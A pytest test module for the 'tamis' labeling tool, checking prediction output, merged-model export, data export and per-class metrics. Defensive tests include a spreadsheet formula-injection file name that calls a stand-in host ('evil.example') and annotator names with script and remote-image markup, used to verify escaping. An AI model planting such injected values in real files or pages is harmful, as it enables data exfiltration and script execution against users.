"""Using what the rounds made: `tamis predict`, `tamis export-model` (merged checkpoint loaded by plain
transformers), the per-class evaluation in the round's folder, summary and `tamis status --per-class`.

One small project (two rounds of the tiny 4-bit model on the digits) is built once for the module; the new images
are crops of scikit-image's photos, never digits."""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image
from typer.testing import CliRunner

from flows.cli.main import app
from pipeline.annotation.ledger import Ledger, ledger_path
from pipeline.config import load_config
from pipeline.errors import ConfigError
from pipeline.round_state import completed_rounds
from tests.test_round_flow import write_project

runner = CliRunner()
PHOTOS = ("astronaut", "coffee", "chelsea", "rocket")


@pytest.fixture(scope="module")
def project(tmp_path_factory, tiny_models, prefect_harness):
    """(config path, artifacts, round states) after two rounds: round 0 selects, round 1 trains and evaluates."""
    from flows.round import labeling_round

    root = tmp_path_factory.mktemp("use-model")
    config = write_project(root, tiny_models)
    states = [labeling_round(str(config)), labeling_round(str(config), simulate=False)]
    assert states[1]["round"] == 1 and states[1]["adapter"]
    return config, load_config(config).artifacts, states


def photo_folder(folder: Path, *, square: int | None = None, photos: tuple[str, ...] = PHOTOS) -> list[str]:
    """Crops of scikit-image photos (colour or grey) as PNG / JPEG files with their own names, never square unless
    `square`: crops already at the prepared size, so tamis's preparation leaves their pixels alone."""
    from skimage import data

    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for i, name in enumerate(photos):
        arr = getattr(data, name)()
        h, w = arr.shape[:2]
        crop = Image.fromarray(arr[h // 4: h // 4 + 120 + 10 * i, w // 5: w // 5 + 90 + 15 * i])
        if square:
            crop = crop.resize((square, square), Image.BILINEAR)
        fmt = "PNG" if square or i % 2 == 0 else "JPEG"
        file = f"{name}.{fmt.lower()}"
        crop.save(folder / file, format=fmt)
        names.append(file)
    return names


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_predict_answers_new_images_and_reports_an_undecodable_file(project, tmp_path):
    config, art, _ = project
    answers = load_config(config).data.answers
    folder = tmp_path / "new"
    names = photo_folder(folder)
    (folder / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 this is not a JPEG")
    out = tmp_path / "out" / "preds.csv"

    res = runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(out)])
    assert res.exit_code == 0, res.output
    rows = {r["file"]: r for r in read_csv(out)}
    assert sorted(rows) == sorted([*names, "broken.jpg"])
    for name in names:
        r = rows[name]
        assert r["answer"] in answers and 0 < float(r["probability"]) <= 1 and not r["error"]
        assert "round 1" in r["adapter"]
    assert rows["broken.jpg"]["answer"] == "" and rows["broken.jpg"]["error"]
    assert "skipped broken.jpg" in res.stderr and "4 images answered, 1 skipped" in res.stdout
    jsonl = {r["file"]: r for r in map(json.loads, out.with_suffix(".jsonl").read_text().splitlines())}
    dist = jsonl[names[0]]["distribution"]
    assert list(dist) == answers and sum(dist.values()) == pytest.approx(1, abs=1e-4)
    assert max(dist.values()) == pytest.approx(float(rows[names[0]]["probability"]), abs=1e-5)

    # The same adapter named by its round gives the same answers; a round without an adapter is refused.
    again = tmp_path / "again.csv"
    assert runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(again),
                               "--round", "1"]).exit_code == 0
    assert [r["answer"] for r in read_csv(again)] == [rows[r["file"]]["answer"] for r in read_csv(again)]
    bad = runner.invoke(app, ["predict", str(folder), "-c", str(config), "--round", "0"])
    assert isinstance(bad.exception, ConfigError) and "round 0" in str(bad.exception)
    assert "rounds with an adapter: 1" in str(bad.exception)


def test_predict_reads_a_manifest_with_questions_and_a_saved_dataset(project, tmp_path, monkeypatch):
    import datasets

    monkeypatch.setattr("pipeline.predict.CHUNK", 2)  # three rows: scored in two chunks, answered in input order
    config, art, states = project
    answers = load_config(config).data.answers
    adapter = states[1]["adapter"]["adapter_dir"]
    names = photo_folder(tmp_path / "imgs")
    manifest = tmp_path / "new.jsonl"
    rows = [{"image": f"imgs/{names[0]}", "question": "Which digit is it?"}, {"image": f"imgs/{names[1]}"},
            {"image": "../outside.png"}]
    manifest.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "m.csv"
    res = runner.invoke(app, ["predict", str(manifest), "-c", str(config), "--out", str(out), "--adapter", adapter])
    assert res.exit_code == 0, res.output
    got = read_csv(out)
    assert [r["file"] for r in got[:2]] == [f"imgs/{names[0]}", f"imgs/{names[1]}"]
    assert got[0]["question"] == "Which digit is it?"
    assert got[1]["question"] == load_config(config).data.question  # the project's question when a row has none
    assert all(r["answer"] in answers for r in got[:2]) and adapter in got[0]["adapter"]
    assert got[2]["answer"] == "" and "escapes the dataset root" in got[2]["error"]

    saved = tmp_path / "saved"
    datasets.Dataset.from_list([{"image": (tmp_path / "imgs" / n).read_bytes()} for n in names[:2]]).save_to_disk(
        str(saved))
    res = runner.invoke(app, ["predict", str(saved), "-c", str(config), "--out", str(tmp_path / "d.csv")])
    assert res.exit_code == 0, res.output
    got = read_csv(tmp_path / "d.csv")
    assert len(got) == 2 and all(r["answer"] in answers and r["file"].startswith(str(saved)) for r in got)

    missing = runner.invoke(app, ["predict", str(tmp_path / "nope"), "-c", str(config)])
    assert "does not exist" in str(missing.exception)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_predict_skips_a_row_with_a_5_mb_question_and_answers_the_others(project, tmp_path, kind):
    """Issue 46 #14: one manifest row with a 5 MB question aborted `tamis predict` (rc 1, no CSV for any row)."""
    import os

    config, _, _ = project
    answers = load_config(config).data.answers
    names = photo_folder(tmp_path / "imgs")[:3]
    rows = [{"image": f"imgs/{names[0]}", "question": "Which digit is it?"},
            {"image": f"imgs/{names[1]}", "question": "why? " * 1_000_000},
            {"image": f"imgs/{names[2]}", "question": ""}]
    manifest = tmp_path / f"new.{kind}"
    if kind == "csv":
        with open(manifest, "w", newline="", encoding="utf-8") as f:
            csv.DictWriter(f, fieldnames=["image", "question"]).writeheader()
            csv.writer(f).writerows([r["image"], r["question"]] for r in rows)
    else:
        manifest.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "out" / "predictions.csv"
    proc = subprocess.run([str(Path(sys.executable).parent / "tamis"), "predict", str(manifest), "-c", str(config),
                           "--out", str(out)], capture_output=True, text=True, timeout=300, env=dict(os.environ))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    got = read_csv(out)
    assert [r["file"] for r in got] == [r["image"] for r in rows]  # every row, in input order
    assert got[0]["answer"] in answers and got[2]["answer"] in answers and not got[0]["error"]
    assert got[1]["answer"] == "" and "4,999,999 characters, over the 4,000" in got[1]["error"]
    assert len(got[1]["question"]) < 300  # the CSV does not carry the 5 MB back out
    assert "skipped imgs/" in proc.stderr and "2 images answered, 1 skipped" in proc.stdout
    rejected = read_csv(out.with_name("predictions.rejected.csv"))
    assert [(r["file"], r["reason"]) for r in rejected] == [(got[1]["file"], got[1]["error"])]
    assert str(out.with_name("predictions.rejected.csv")) in proc.stdout


def test_predictions_csv_cells_never_start_a_formula(tmp_path):
    """Issue 46 #16: predictions.csv wrote a file name like =HYPERLINK(…) raw (spreadsheet formula injection)."""
    from pipeline.csvcells import FORMULA_START
    from pipeline.predict import Prediction, write_predictions

    name = '=HYPERLINK("evil.example?c="&A1,"click").png'
    preds = [Prediction(name, "+what is it?", "@cat", 0.9, "round 1: adapter", mean_logprob=-0.105361),
             Prediction("-x.png", "q", None, None, "round 1: adapter", error="cannot decode: =bad")]
    files = write_predictions(preds, tmp_path / "predictions.csv")
    for path in (files.csv, files.rejected):
        with open(path, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)], path
    got = read_csv(files.csv)
    assert got[0]["file"] == "'" + name and got[0]["answer"] == "'@cat" and got[0]["question"] == "'+what is it?"
    assert got[0]["mean_logprob"] == "-0.105361"  # a number stays a number
    assert read_csv(files.rejected) == [{"file": "'-x.png", "reason": "cannot decode: =bad"}]
    assert json.loads(files.jsonl.read_text().splitlines()[0])["file"] == name  # JSON is no spreadsheet: as is


# Plain transformers in a fresh interpreter: tamis's packages cannot be imported (the editable install's path
# entries are dropped and the names blocked), the merged folder is all it reads.
PLAIN = r"""
import json, sys
sys.path = [p for p in sys.path if p.rstrip("/") not in {roots!r} and p not in ("", ".")]
sys.modules["pipeline"] = sys.modules["flows"] = None  # an import of tamis fails
import torch
from PIL import Image
from transformers import AutoModelForImageTextToText, AutoProcessor

merged, files, answers, question = sys.argv[1], sys.argv[2:-2], json.loads(sys.argv[-2]), sys.argv[-1]
model = AutoModelForImageTextToText.from_pretrained(merged).eval()
processor = AutoProcessor.from_pretrained(merged)
tok = processor.tokenizer
user = {{"role": "user", "content": [{{"type": "image"}}, {{"type": "text", "text": question}}]}}
prompt = processor.apply_chat_template([user], add_generation_prompt=True)
first = []
for a in answers:  # each answer's first token after the prompt (the digits are one token each)
    full = processor.apply_chat_template([user, {{"role": "assistant", "content": [{{"type": "text", "text": a}}]}}])
    first.append(tok(full, add_special_tokens=False)["input_ids"][len(tok(prompt, add_special_tokens=False)["input_ids"])])
out = {{}}
for f in files:
    enc = processor(images=[[Image.open(f).convert("RGB")]], text=[prompt], return_tensors="pt")
    with torch.no_grad():
        logits = model(**enc).logits[0, -1].float()
    p = torch.softmax(torch.log_softmax(logits, -1)[first], 0)
    out[f.rsplit("/", 1)[-1]] = [answers[int(p.argmax())], float(p.max())]
print(json.dumps({{"answers": out, "tamis_loaded": sorted(m for m in sys.modules if m.split(".")[0] in ("pipeline", "flows") and sys.modules[m] is not None)}}))
"""


def test_export_model_merged_loads_in_plain_transformers_and_answers_like_predict(project, tmp_path):
    config, art, states = project
    cfg = load_config(config)
    out = tmp_path / "export"
    res = runner.invoke(app, ["export-model", "-c", str(config), "--out", str(out), "--merge"])
    assert res.exit_code == 0, res.output
    assert "merged (float32)" in res.stdout  # auto on a CPU: the fp32 tamis computes in

    written = yaml.safe_load(config.read_text())["model"]["name_or_path"]  # the base as the config names it
    adapter_cfg = json.loads((out / "adapter" / "adapter_config.json").read_text())
    assert adapter_cfg["base_model_name_or_path"] == written
    assert (out / "adapter" / "adapter_model.safetensors").is_file()
    assert (out / "adapter" / "chat_template.jinja").is_file() or "chat_template" in json.loads(
        (out / "adapter" / "processor_config.json").read_text())
    card = (out / "README.md").read_text()
    assert card.startswith(f"---\nbase_model: {written}\n")
    assert "- labels: **6**" in card and "this adapter is round 1's; 2 rounds finished" in card
    assert "mode: **qlora**" in card and "Accuracy **" in card and "95% CI" in card
    lineage = json.loads((out / "lineage.json").read_text())
    ledger = {e["entry_id"]: e for e in Ledger(ledger_path(art)).entries()}
    assert lineage["counts"] == {"labels": 6, "from_ledger": 6, "seed": 0}
    assert {r["entry_id"] for r in lineage["labels"]} == set(ledger)
    assert all(r["source_digest"] == ledger[r["entry_id"]]["source_digest"] for r in lineage["labels"])
    assert lineage["adapter"]["digest"] == states[1]["adapter"]["adapter_digest"]
    merged_cfg = json.loads((out / "merged" / "config.json").read_text())
    assert "quantization_config" not in merged_cfg
    from pipeline.store import current_umask

    for p in [*out.rglob("*")]:  # safetensors writes 0600; the export's files are as shareable as its README
        assert stat.S_IMODE(p.stat().st_mode) == (0o777 if p.is_dir() else 0o666) & ~current_umask(), p

    folder = tmp_path / "squares"
    names = photo_folder(folder, square=32)  # the demo project's preprocess.size
    preds = tmp_path / "p.csv"
    assert runner.invoke(app, ["predict", str(folder), "-c", str(config), "--out", str(preds)]).exit_code == 0
    tamis = {r["file"]: (r["answer"], float(r["probability"])) for r in read_csv(preds)}

    roots = tuple(str(Path(p).resolve()) for p in (Path(__file__).parents[1], "/work/main"))
    proc = subprocess.run([sys.executable, "-c", PLAIN.format(roots=roots), str(out / "merged"),
                           *(str(folder / n) for n in names), json.dumps(cfg.data.answers), cfg.data.question],
                          capture_output=True, text=True, timeout=300, cwd=tmp_path, env={"HF_HUB_OFFLINE": "1",
                                                                           "TRANSFORMERS_OFFLINE": "1",
                                                                           "PATH": "/usr/bin:/bin"})
    assert proc.returncode == 0, proc.stderr[-3000:]
    plain = json.loads(proc.stdout.strip().splitlines()[-1])
    assert plain["tamis_loaded"] == []
    assert {n: a for n, (a, _) in plain["answers"].items()} == {n: a for n, (a, _) in tamis.items()}
    # Not to the last digit: bitsandbytes' CPU 4-bit matmul rounds like bf16 (0.4 % of a layer's output measured
    # against x @ dequantize(W).T in fp32), the merged fp32 model does not.
    for n, (_, p) in plain["answers"].items():
        assert p == pytest.approx(tamis[n][1], abs=0.03)


# ------------------------------------------------------------------ export-model as a user runs it: safe and shareable
TAMIS = Path(sys.executable).parent / "tamis"
REPO = Path(__file__).parents[1]


def tamis_cli(*args: object, cwd: Path | None = None, umask: int | None = None) -> subprocess.CompletedProcess[str]:
    """The `tamis` console script in a child process (this checkout's code), its messages one line wide."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "1000", "HF_HUB_OFFLINE": "1",
           "TRANSFORMERS_OFFLINE": "1"}
    env.pop("TAMIS_DEBUG", None)
    return subprocess.run([str(TAMIS), *map(str, args)], cwd=cwd, capture_output=True, text=True, timeout=600,
                          env=env, preexec_fn=None if umask is None else (lambda: os.umask(umask)))


def said(proc: subprocess.CompletedProcess[str]) -> str:
    return " ".join((proc.stdout + proc.stderr).split())


def test_export_model_refuses_a_folder_that_holds_files_unless_forced_and_then_replaces_only_its_own(project,
                                                                                                     tmp_path):
    config, _, _ = project
    out = tmp_path / "shared"
    (out / "adapter").mkdir(parents=True)
    (out / "adapter" / "mine.bin").write_bytes(b"the user's")
    (out / "notes.txt").write_text("keep me")
    (out / "merged").mkdir()  # an earlier export's merged checkpoint: it would not match a new adapter
    (out / "merged" / "config.json").write_text("{}")

    res = tamis_cli("export-model", "-c", config, "--out", out)
    assert res.returncode == 2, said(res)
    msg = said(res)
    assert f"--out {out}: the folder is not empty (3 entries: adapter, merged, notes.txt)" in msg
    assert "pass --force" in msg and "anything else in the folder is kept" in msg
    assert (out / "adapter" / "mine.bin").read_bytes() == b"the user's" and (out / "notes.txt").read_text() == "keep me"
    assert sorted(p.name for p in out.iterdir()) == ["adapter", "merged", "notes.txt"]

    # --force replaces what an export writes (adapter/, merged/, README.md, lineage.json) and keeps the rest.
    res = tamis_cli("export-model", "-c", config, "--out", out, "--force")
    assert res.returncode == 0, said(res)
    assert sorted(p.name for p in out.iterdir()) == ["README.md", "adapter", "lineage.json", "notes.txt", "predict.py",
                                                     "predict_config.json"]
    assert (out / "notes.txt").read_text() == "keep me"
    assert (out / "adapter" / "adapter_model.safetensors").is_file() and not (out / "adapter" / "mine.bin").exists()


def test_export_model_never_writes_into_the_projects_artifacts_even_with_force(project, tmp_path):
    from pipeline.predict import find_adapter
    from pipeline.store import digest_dir

    config, art, states = project
    train_dir = Path(states[1]["adapter"]["dir"])
    before = digest_dir(train_dir)
    # The round's own train folder (whose adapter `predict` verifies), and a new folder anywhere under artifacts/.
    for target, force in ((train_dir, []), (art / "exports" / "mine", ["--force"])):
        res = tamis_cli("export-model", "-c", config, "--out", target, *force)
        assert res.returncode == 2, said(res)
        msg = said(res)
        assert f"--out {target}: {target} is in the project's artifacts folder {art.resolve()}" in msg
        assert "refused even with --force" in msg and f"--out {art.resolve().parent / 'export'}" in msg
    assert digest_dir(train_dir) == before and not (art / "exports").exists()
    assert find_adapter(art, round_index=1).dir == Path(states[1]["adapter"]["adapter_dir"])  # still verifies


def test_export_data_holds_the_samples_questions_and_answers_the_last_round_trained_on(project, tmp_path):
    """No label came in after round 1 planned: `tamis export-data` exports exactly round 1's labeled set (the set its
    adapter trained on), never a test row."""
    import datasets

    from pipeline.round_state import round_dir

    config, art, states = project
    out = tmp_path / "data"
    res = tamis_cli("export-data", "-c", config, "--format", "hf", "--out", out)
    assert res.returncode == 0, said(res)
    trained = datasets.load_from_disk(str(round_dir(art, 1) / "labeled" / "dataset"))
    got = datasets.load_from_disk(str(out / "dataset"))
    assert list(got) == ["train"]
    assert sorted(zip(got["train"]["id"], got["train"]["question"], got["train"]["answer"], strict=True)) == sorted(
        zip(trained["sample_id"], trained["question"], trained["answer"], strict=True))
    lineage = json.loads((out / "lineage.json").read_text())
    assert lineage["last_round"] == 1 and lineage["counts"]["train"] == states[1]["labeled"]


# Three annotators on every sample; the third is always wrong, so always outvoted. Their names are what a Label
# Studio user may type: a comma (the ledger joins the winners' names with commas), a table pipe, an image that
# would load from elsewhere, a script.
CROWD = [{"name": "Lee, Ann", "accuracy": 1.0}, {"name": "bob | admin", "accuracy": 1.0},
         {"name": "![x](http://example.invalid/x.png)<script>alert(1)</script>", "accuracy": 0.0}]


@pytest.fixture(scope="module")
def crowd_project(tmp_path_factory, tiny_models, prefect_harness):
    """(project root, config path, artifacts) after two rounds labeled by CROWD, three votes per sample."""
    from flows.round import labeling_round

    root = tmp_path_factory.mktemp("crowd")
    config = write_project(root, tiny_models, rounds={"simulate_annotators": CROWD, "simulate_redundancy": 3})
    labeling_round(str(config))
    assert labeling_round(str(config), simulate=False)["adapter"]
    return root, config, load_config(config).artifacts


def test_export_lineage_lists_every_vote_and_the_card_counts_every_annotator(crowd_project, tmp_path):
    from markdown_it import MarkdownIt

    root, config, art = crowd_project
    out = tmp_path / "export"
    res = tamis_cli("export-model", "-c", config, "--out", out)
    assert res.returncode == 0, said(res)
    names = sorted(a["name"] for a in CROWD)
    lineage = json.loads((out / "lineage.json").read_text())
    assert lineage["counts"]["from_ledger"] == len(lineage["labels"]) > 0
    for row in lineage["labels"]:
        assert sorted(v["annotator"] for v in row["votes"]) == names  # the outvoted one too, with the answer given
        assert {v["label"] for v in row["votes"] if v["annotator"] != CROWD[2]["name"]} == {row["label"]}
        assert [v["label"] for v in row["votes"] if v["annotator"] == CROWD[2]["name"]] != [row["label"]]

    card = (out / "README.md").read_text()
    line = next(x for x in card.splitlines() if x.startswith("- annotators: "))
    assert line.startswith("- annotators: 3 (")
    html = MarkdownIt("commonmark").enable("table").render(card)
    assert "<img" not in html and "<script" not in html
    text = __import__("html").unescape(html)
    for name in names:  # each name shows as the text it is
        assert name in text, name


def test_the_card_escapes_answer_names_in_its_per_class_table():
    from markdown_it import MarkdownIt

    from pipeline.export_model import metrics_markdown
    from pipeline.perclass import EvalReport, per_class_report

    answers = ["cat | dog", "![y](http://example.invalid/y.png)", "<b>bold</b>", "a`b\\"]
    refs = [answers[i % 4] for i in range(12)]
    report = EvalReport(Path("unused"), per_class_report(refs[::-1], refs, answers, resamples=20), None)
    html = MarkdownIt("commonmark").enable("table").render("\n".join(metrics_markdown(None, report)) + "\n")
    rows = html.split("<tr>")[2:]
    assert len(rows) == 4 and all(r.count("<td") == 5 for r in rows)  # a pipe in a name adds no column
    assert "<img" not in html and "<b>" not in html
    cells = [r.split("<td>")[1].split("</td>")[0] for r in rows]
    assert [__import__("html").unescape(c) for c in cells] == answers


def test_export_holds_relative_paths_and_ordinary_file_modes(crowd_project, tmp_path):
    root, config, art = crowd_project
    # The config as a user writes it in the project folder: the base model as a relative folder name.
    rel = root / "relative.yaml"
    rel.write_text(config.read_text().replace(f"name_or_path: {root / 'model'}", "name_or_path: model"))
    assert "name_or_path: model\n" in rel.read_text()
    out = tmp_path / "export"
    res = tamis_cli("export-model", "-c", rel, "--out", out, cwd=root, umask=0o002)
    assert res.returncode == 0, said(res)

    assert json.loads((out / "adapter" / "adapter_config.json").read_text())["base_model_name_or_path"] == "model"
    assert (out / "README.md").read_text().startswith("---\nbase_model: model\n")
    lineage = json.loads((out / "lineage.json").read_text())
    assert lineage["adapter"]["train_dir"] == f"train/{Path(lineage['adapter']['train_dir']).name}"
    assert {r["source_file"] for r in lineage["labels"]} == {"inbox/simulated-round-000.json"}
    for f in out.rglob("*"):
        if f.is_file() and f.suffix in (".md", ".json", ".jinja"):
            text = f.read_text()
            assert str(root) not in text and str(tmp_path) not in text and str(Path.home()) + "/" not in text, f
    # Modes as a plain open() gives them under the user's umask (0002 here): weights too, not safetensors' 0600.
    for p in [out, *out.rglob("*")]:
        assert stat.S_IMODE(p.stat().st_mode) == (0o775 if p.is_dir() else 0o664), p


def test_the_evaluation_folder_holds_per_class_metrics_shown_in_the_summary_and_status(project):
    config, art, states = project
    eval_dir = Path(states[1]["eval_dir"])
    assert completed_rounds(art)[1].eval_dir == str(eval_dir)
    pc = json.loads((eval_dir / "per_class.json").read_text())
    assert list(pc) == ["answers", "per_class", "confusion", "confusion_columns", "accuracy", "accuracy_ci95",
                        "macro_f1", "macro_f1_ci95", "n", "bootstrap"]
    assert pc["answers"] == [str(d) for d in range(10)] and pc["confusion_columns"] == pc["answers"]
    assert np.array(pc["confusion"]).sum() == pc["n"] == sum(r["support"] for r in pc["per_class"])
    assert pc["accuracy"] == pytest.approx(states[1]["metrics"]["accuracy"])
    assert pc["accuracy_ci95"][0] <= pc["accuracy"] <= pc["accuracy_ci95"][1]
    assert (eval_dir / "confusion.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    summary = (art / "rounds" / "001" / "summary.md").read_text()
    assert "## Per-class results" in summary and "| answer | precision | recall | F1 | support |" in summary
    assert str(eval_dir / "confusion.png") in summary
    # The metrics log carries each metric's interval, so the learning curve can draw it.
    from pipeline.metrics import read_metrics

    assert [m["ci95"] for m in read_metrics(art) if m["metric"] == "accuracy"] == [pc["accuracy_ci95"]]

    res = runner.invoke(app, ["status", "-c", str(config), "--per-class"])
    assert res.exit_code == 0, res.output
    assert "per-class results (round 1" in res.stdout and "precision" in res.stdout and "macro-F1" in res.stdout
    for r in pc["per_class"]:
        assert f"{r['recall']:.3f}" in res.stdout
